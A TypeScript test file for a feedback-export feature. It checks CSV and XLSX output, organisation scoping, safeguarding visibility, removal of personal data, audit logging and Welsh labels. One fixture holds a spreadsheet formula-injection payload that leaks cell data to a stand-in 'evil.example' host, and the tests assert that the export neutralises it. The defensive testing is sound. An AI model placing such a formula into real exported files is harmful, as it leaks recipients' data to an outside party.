import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { insertTestPerson } from '#features/register';
import { encrypt } from '#platform/crypto/encryption.ts';
import { startTestApp, type TestApp } from '#test/support/app.ts';
import { organisationTree, signedInAs } from '#test/support/fixture.ts';
import { visibleText } from '#test/support/html.ts';
import { insertTestItem } from '../items/fixtures.ts';
import { CONTACT_CONTEXT, itemNumber } from '../items/receive.ts';
import { exportRows } from './repository.ts';
import { exportColumns, writeFeedbackXlsx } from './write.ts';

/** Fields of a CSV (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  return rows;
}

const column = (name: (typeof exportColumns)[number]) => exportColumns.indexOf(name);

/**
 * The export of feedback items: a row per item the reader may see, formula-looking text made
 * safe in CSV and XLSX, nothing of another organisation, no safeguarding item for a colleague,
 * never contact details or names, audited; refused without feedback.view.
 */
describe('feedback export', () => {
  let t: TestApp;
  const tree = organisationTree(() => t, 'fbexport', 'Tester');
  const org = tree.ids;
  const db = () => t.services.db;
  const days = 'from-day=1&from-month=1&from-year=2026&to-day=31&to-month=12&to-year=2026';
  const download = (organisationId: string, format: string, extra = '') =>
    `/feedback/export/download?organisationId=${organisationId}&${days}&format=${format}${extra}`;
  const at = (iso: string) => new Date(iso);
  const items: Record<string, { id: string; number: number }> = {};
  let leadAccountId = '';

  before(async () => {
    t = await startTestApp();
    await tree.addAll({
      region: null,
      service: 'region',
      otherRegion: null,
      otherService: 'otherRegion',
    });
    const { accountId } = await tree.signedIn('involvement_lead', 'region');
    leadAccountId = accountId;
    const key = t.services.config.encryptionKey;
    const personId = await insertTestPerson(db(), key, {
      organisationId: org.service!,
      displayName: 'Gwenllian Exportperson',
    });
    const [transport, rooms] = await db()
      .insertInto('feedback_themes')
      .values([
        { organisation_id: org.region!, name_en: 'Transport', name_cy: 'Trafnidiaeth' },
        { organisation_id: org.region!, name_en: 'Rooms', name_cy: 'Ystafelloedd' },
      ])
      .returning('id')
      .execute();
    const service = org.service!;
    items.formula = await insertTestItem(db(), {
      organisation_id: service,
      body: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      contact_encrypted: encrypt('secret-contact@test.example', key, CONTACT_CONTEXT),
      received_at: at('2026-03-02T09:30:00Z'),
    });
    items.plus = await insertTestItem(db(), {
      organisation_id: service,
      body: '+44 said the bus was late, again',
      person_id: personId,
      channel: 'portal',
      received_at: at('2026-03-03T09:30:00Z'),
    });
    items.minus = await insertTestItem(db(), {
      organisation_id: service,
      body: '-1 chairs for the group\nand no tea',
      received_at: at('2026-03-04T09:30:00Z'),
    });
    items.published = await insertTestItem(db(), {
      organisation_id: service,
      kind: 'complaint',
      body: '@everyone the room is too cold',
      status: 'published',
      outcome: 'done',
      outcome_en: '=1+1 We fixed the heating.',
      outcome_cy: 'Rydym wedi trwsio’r gwres.',
      published_at: at('2026-04-01T11:00:00Z'),
      acknowledge_by: '2026-03-09',
      respond_by: '2026-04-02',
      received_at: at('2026-03-05T09:30:00Z'),
    });
    await db()
      .insertInto('feedback_item_themes')
      .values([
        { item_id: items.published.id, theme_id: transport!.id },
        { item_id: items.published.id, theme_id: rooms!.id },
      ])
      .execute();
    items.duplicate = await insertTestItem(db(), {
      organisation_id: service,
      body: 'The room is cold',
      status: 'closed',
      merged_into_id: items.published.id,
      received_at: at('2026-03-06T09:30:00Z'),
    });
    items.safeguarding = await insertTestItem(db(), {
      organisation_id: service,
      kind: 'concern',
      body: 'A worry about someone at the group',
      safeguarding: true,
      safeguarding_lead_id: leadAccountId,
      received_at: at('2026-03-07T09:30:00Z'),
    });
    items.lastYear = await insertTestItem(db(), {
      organisation_id: service,
      body: 'Received before the days chosen',
      received_at: at('2025-12-31T23:30:00Z'), // 31 December in the UK
    });
    items.elsewhere = await insertTestItem(db(), {
      organisation_id: org.otherService!,
      body: 'Another region’s feedback',
      received_at: at('2026-03-02T09:30:00Z'),
    });
  });
  after(() => t.close());

  it('has a row per item the reader may see, formulas made safe, no contact details or names, audited', async () => {
    const { agent, accountId } = await tree.signedIn('organisation_admin', 'region');
    const form = await agent.get('/feedback/export');
    assert.equal(form.statusCode, 200);
    const file = await agent.get(download(org.region!, 'csv', '&language=en'));
    assert.equal(file.statusCode, 200);
    assert.match(String(file.headers['content-type']), /^text\/csv/);
    assert.equal(
      file.headers['content-disposition'],
      'attachment; filename="cyd-feedback-2026-01-01-2026-12-31-region.csv"',
    );
    assert.equal(file.headers['cache-control'], 'private, no-store');
    assert.ok(
      file.body.startsWith('\uFEFFReference,Received,'),
      'a byte order mark, then headings',
    );
    const rows = parseCsv(file.body.slice(1));
    const numbers = rows.slice(1).map((r) => r[column('reference')]);
    const expected = ['formula', 'plus', 'minus', 'published', 'duplicate', 'safeguarding'];
    assert.deepEqual(
      numbers,
      expected.map((k) => itemNumber(items[k]!.number)),
      'every item of the region an administrator may see, oldest first; nothing of another region or outside the days',
    );
    const said = rows.slice(1).map((r) => r[column('said')]);
    assert.deepEqual(said.slice(0, 4), [
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
      "'+44 said the bus was late, again",
      "'-1 chairs for the group\nand no tea",
      "'@everyone the room is too cold",
    ]);
    const published = rows[4]!;
    assert.equal(published[column('outcomeEn')], "'=1+1 We fixed the heating.");
    assert.equal(published[column('outcomeCy')], 'Rydym wedi trwsio’r gwres.');
    assert.equal(published[column('themes')], 'Rooms; Transport');
    assert.equal(published[column('kind')], 'Complaint');
    assert.equal(published[column('step')], 'Published');
    assert.equal(published[column('outcome')], 'Done');
    assert.equal(published[column('received')], '2026-03-05 09:30');
    assert.equal(published[column('published')], '2026-04-01 12:00', 'UK time (summer)');
    assert.equal(published[column('respondBy')], '2026-04-02');
    assert.equal(rows[5]![column('mergedInto')], itemNumber(items.published!.number));
    assert.equal(rows[6]![column('safeguarding')], 'Yes');
    for (const secret of ['secret-contact', 'Gwenllian', 'Exportperson', 'Tester']) {
      assert.ok(!file.body.includes(secret), `${secret} is not in the file`);
    }
    const logged = await db()
      .selectFrom('audit_log')
      .select(['details', 'subject_id as subjectId', 'organisation_id as organisationId'])
      .where('action', '=', 'feedback.exported')
      .where('actor_account_id', '=', accountId)
      .execute();
    assert.deepEqual(logged, [
      {
        subjectId: org.region,
        organisationId: org.region,
        details: { from: '2026-01-01', to: '2026-12-31', format: 'csv', language: 'en' },
      },
    ]);
  });

  it('writes the workbook in Welsh, with formula-looking text made safe', async () => {
    const { agent } = await tree.signedIn('organisation_admin', 'region');
    const file = await agent.get(download(org.service!, 'xlsx', '&language=cy'));
    assert.equal(file.statusCode, 200);
    assert.match(String(file.headers['content-type']), /spreadsheetml/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer); // exceljs types its own Buffer
    const sheet = workbook.getWorksheet('Adborth')!;
    assert.equal(sheet.rowCount, 7, 'the headings and six items');
    const cell = (row: number, name: (typeof exportColumns)[number]) =>
      sheet.getRow(row).getCell(column(name) + 1).value;
    assert.equal(cell(1, 'reference'), 'Cyfeirnod');
    assert.equal(cell(2, 'said'), `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
    assert.equal(cell(3, 'said'), "'+44 said the bus was late, again");
    assert.equal(cell(4, 'said'), "'-1 chairs for the group\nand no tea");
    assert.equal(cell(5, 'said'), "'@everyone the room is too cold");
    assert.equal(cell(5, 'outcomeEn'), "'=1+1 We fixed the heating.");
    assert.equal(cell(5, 'themes'), 'Trafnidiaeth; Ystafelloedd');
    assert.equal(cell(5, 'kind'), 'Cwyn');
    for (let row = 1; row <= sheet.rowCount; row += 1) {
      sheet.getRow(row).eachCell((c) => {
        assert.equal(c.formula, undefined, 'no cell is a formula');
        const text = typeof c.value === 'string' ? c.value : '';
        assert.ok(!text.includes('secret-contact') && !text.includes('Gwenllian'));
      });
    }
  });

  it('starts another sheet when one is full', async () => {
    const { actor } = await tree.signedIn('organisation_admin', 'region');
    const rows = exportRows(db(), actor, {
      organisationId: org.region!,
      from: at('2026-01-01T00:00Z'),
      until: at('2026-03-31T00:00Z'),
      language: 'en',
    });
    const chunks: Buffer[] = [];
    const stream = new PassThrough();
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    const file = { language: 'en' as const, t: t.services.i18n.t('en') };
    assert.equal(await writeFeedbackXlsx(rows, file, stream, 4), 6);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    assert.deepEqual(
      workbook.worksheets.map((sheet) => [sheet.name, sheet.rowCount]),
      [
        ['Feedback', 5],
        ['Feedback 2', 3],
      ],
    );
  });

  it('leaves a safeguarding item out for a colleague, and in for its named lead', async () => {
    const safeguarding = itemNumber(items.safeguarding!.number);
    const colleague = await tree.signedIn('involvement_lead', 'region');
    const theirs = await colleague.agent.get(download(org.region!, 'csv'));
    assert.equal(theirs.statusCode, 200);
    assert.equal(parseCsv(theirs.body.slice(1)).length, 6, 'the headings and five items');
    assert.ok(!theirs.body.includes(safeguarding));
    assert.ok(!theirs.body.includes('A worry about someone'));
    const lead = await signedInAs(t, leadAccountId);
    const response = await lead.agent.get(download(org.region!, 'csv'));
    assert.equal(response.statusCode, 200);
    assert.ok(response.body.includes(safeguarding), 'its lead sees it');
  });

  it('refuses another organisation, and anyone without feedback.view', async () => {
    const { agent } = await tree.signedIn('organisation_admin', 'region');
    assert.equal((await agent.get(download(org.otherRegion!, 'csv'))).statusCode, 404);
    const viewer = await tree.signedIn('viewer', 'region');
    assert.equal((await viewer.agent.get('/feedback/export')).statusCode, 403);
    assert.equal((await viewer.agent.get(download(org.region!, 'csv'))).statusCode, 403);
    const audited = await db()
      .selectFrom('audit_log')
      .select('id')
      .where('action', '=', 'feedback.exported')
      .where('subject_id', '=', org.otherRegion!)
      .execute();
    assert.deepEqual(audited, [], 'nothing exported, nothing audited');
  });

  it('explains bad choices on the form, keeping what was typed, in Welsh too', async () => {
    const { agent } = await tree.signedIn('commissioner', 'region');
    const inbox = await agent.get('/feedback');
    assert.ok(inbox.body.includes('href="/feedback/export"'), 'the inbox links to the export');
    const form = await agent.get(`/feedback/export?organisationId=${org.service!}`);
    assert.equal(form.statusCode, 200);
    assert.match(form.body, new RegExp(`<option value="${org.service!}" selected>`));
    assert.ok(!form.body.includes(org.otherRegion!), 'only organisations in their scope');
    const backwards = await agent.get(
      `/feedback/export/download?organisationId=${org.region!}&from-day=1&from-month=5&from-year=2026&to-day=1&to-month=4&to-year=2026&format=csv`,
    );
    assert.equal(backwards.statusCode, 400);
    assert.match(visibleText(backwards.body), /The last day must be the same as or after/);
    assert.match(backwards.body, /name="from-month"[^>]*value="5"/);
    const nothing = await agent.get('/feedback/export/download?lang=cy&from-day=31&from-month=2');
    assert.equal(nothing.statusCode, 400);
    const text = visibleText(nothing.body);
    for (const message of [
      'Dewiswch y sefydliad',
      'Rhowch y diwrnod cyntaf',
      'Rhowch y diwrnod olaf',
      'Dewiswch CSV neu XLSX',
    ]) {
      assert.ok(text.includes(message), message);
    }
  });

  it('pages through items received at the same microsecond without repeating or losing one', async () => {
    await tree.add('busy', 'region');
    const same = at('2026-06-01T10:00:00Z');
    const made = [];
    for (let i = 0; i < 5; i += 1) {
      made.push(await insertTestItem(db(), { organisation_id: org.busy!, received_at: same }));
    }
    // the same moment to the microsecond (a JavaScript Date holds milliseconds only)
    await sql`update feedback_items set received_at = received_at + interval '123456 microseconds'
      where organisation_id = ${org.busy!}`.execute(db());
    const { actor } = await tree.signedIn('organisation_admin', 'region');
    const seen: number[] = [];
    for await (const row of exportRows(
      db(),
      actor,
      {
        organisationId: org.busy!,
        from: at('2026-01-01T00:00Z'),
        until: at('2027-01-01T00:00Z'),
        language: 'en',
      },
      2,
    )) {
      seen.push(row.number);
    }
    assert.deepEqual(
      seen,
      made.map((m) => m.number),
    );
  });
});
